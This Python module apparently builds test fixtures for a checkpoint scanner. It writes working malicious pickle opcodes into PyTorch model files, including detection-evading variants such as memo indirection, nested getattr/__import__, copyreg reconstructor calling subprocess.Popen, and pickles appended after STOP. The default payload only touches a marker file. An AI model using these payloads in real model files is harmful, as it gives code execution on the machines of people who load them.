"""Pickles that would run something when they are loaded, by each of the ways that a pickle has."""

from . import archive, pickling
from .export import edit
from .pickling import Raw

FUNCTION, ARGUMENT = "posix.system", "touch executed"
LEGACY_PICKLES = ("magic number", "protocol", "system information", "object", "storage keys")


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def short(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def by_name(qualified: str) -> bytes:
    module, name = qualified.rsplit(".", 1)
    return f"c{module}\n{name}\n".encode()


def call(function: str, argument: str) -> bytes:
    return by_name(function) + text(argument) + b"\x85R"


def opcodes_of(style: str, function: str, argument: str) -> bytes:
    module, name = function.rsplit(".", 1)
    named, said = by_name(function), text(argument)
    return {
        "reduce": call(function, argument),
        "best_state": call(function, argument),
        "stack_global": short(module) + short(name) + b"\x93" + said + b"\x85R",
        "inst": b"(" + said + f"i{module}\n{name}\n".encode(),
        "obj": b"(" + named + said + b"o",
        "setstate": by_name("types.SimpleNamespace") + b")R}" + text("__setstate__") + named + b"sb" + said + b"b",
        "ext": b"\x82\x01" + said + b"\x85R",
        # Names and function go through the memo and come back by other opcodes, with a value dropped in between.
        "memo": short(module) + b"r\xff\x00\x01\x000" + short(name) + b"r\xfe\x00\x01\x000j\xff\x00\x01\x00j\xfe\x00\x01\x00"
                b"\x93r\xfd\x00\x01\x000N0j\xfd\x00\x01\x00" + said + b"\x85R",
        # getattr(__import__(module), name)(argument): the function is the result of calls.
        "nested": by_name("builtins.getattr") + by_name("builtins.__import__") + text(module) + b"\x85R" + text(name) +
                  b"\x86R" + said + b"\x85R",
        # A harmless function of PyTorch's own calls what it is given.
        "rebuild": by_name("torch._tensor._rebuild_from_type_v2") + b"(" + named + by_name("torch.Tensor") + said +
                   b"\x85}tR",
        # subprocess.Popen([...]) by copyreg._reconstructor, which every pickle of protocol 0 needs.
        "reconstructor": by_name("copyreg._reconstructor") + b"(" + by_name("subprocess.Popen") + b"2](" +
                         b"".join(text(word) for word in argument.split()) + b"etR",
        # Nothing is left of it in the package: called, and dropped.
        "dropped": call(function, argument) + b"0N"}[style]


@edit
def inject_global(export, file, style="reduce", function=FUNCTION, argument=ARGUMENT, key="comment"):
    """Adds a key whose value calls `function` when it is unpickled. Styles: reduce, stack_global, inst, obj, setstate
    (the call hides in BUILD), ext (an extension code), memo (everything comes out of the memo), nested (the function is
    the result of other calls), rebuild (PyTorch's own _rebuild_from_type_v2 calls it), reconstructor (copyreg's own calls
    subprocess.Popen), dropped (its result is popped), best_state (reduce, inside the state dict)."""
    target = export.state(file) if style == "best_state" else export.package(file)
    target[key] = Raw(opcodes_of(style, function, argument))


@edit
def patch_pickle(export, file, opcodes_hex, key="comment"):
    """Adds a key whose value is whatever these opcodes make."""
    export.package(file)[key] = Raw(bytes.fromhex(opcodes_hex))


@edit
def append_pickle(export, file, function=FUNCTION, argument=ARGUMENT):
    """A second pickle behind the STOP of data.pkl, which calls `function`."""
    entries = archive.read_zip(export.read_bytes(file))
    entry = archive.find_entry(entries, "data.pkl")
    entry.__init__(entry.name, entry.data + b"\x80\x02" + call(function, argument) + b".")
    export.write_bytes(file, archive.write_zip(entries))


@edit
def add_pickle_record(export, file, record="extra.pkl", function=FUNCTION, argument=ARGUMENT):
    """One more record in the archive: a pickle that calls `function`."""
    entries = archive.read_zip(export.read_bytes(file))
    folder = entries[0].name.split("/", 1)[0]
    entries.append(archive.Entry(f"{folder}/{record}", b"\x80\x02" + call(function, argument) + b"."))
    export.write_bytes(file, archive.write_zip(entries))


@edit
def to_unsafe_legacy(export, file, pickle="system information", function=FUNCTION, argument=ARGUMENT):
    """torch.save's legacy format, a call in one of its five pickles: magic number, protocol, system information, object,
    storage keys. The call's result is dropped; the pickle's own value follows."""
    ending = b"\x80\x02" + call(function, argument) + b"0"
    data = archive.Checkpoint(export.read_bytes(file)).to_legacy()
    at = 0
    for _ in range(LEGACY_PICKLES.index(pickle)):
        at = pickling.end_of(data, at)
    export.write_bytes(file, data[:at] + ending + data[at + 2:])


@edit
def replace_with_pickle(export, file, function=FUNCTION, argument=ARGUMENT):
    """A bare pickle that calls `function`, in the file's place: torch.load runs it before it sees that it is no checkpoint."""
    export.write_bytes(file, b"\x80\x04" + call(function, argument) + b".")
